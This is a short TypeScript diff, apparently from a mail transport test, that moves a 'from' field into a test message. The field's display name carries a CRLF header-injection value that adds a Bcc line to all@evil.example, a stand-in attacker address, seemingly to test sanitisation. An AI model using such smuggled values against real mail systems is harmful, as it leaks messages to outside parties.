@@ -61,7 +61,6 @@ function transportTo(address: string | number, lastMs?: number): MailTransport {
   const transport = new MailTransport({
     url,
     ...(lastMs !== undefined && { lastMs }),
-    from: { name: 'Desert Mirror\r\nBcc: all@evil.example', address: 'hello@mirror.example' },
   });
   open.push(transport);
   return transport;
@@ -69,6 +68,7 @@ function transportTo(address: string | number, lastMs?: number): MailTransport {
 
 const mail = {
   key: 'invoice-7-sent',
+  from: { name: 'Desert Mirror\r\nBcc: all@evil.example', address: 'hello@mirror.example' },
   to: 'ann@example.com',
   subject: 'Your invoice',
   text: 'Good day',
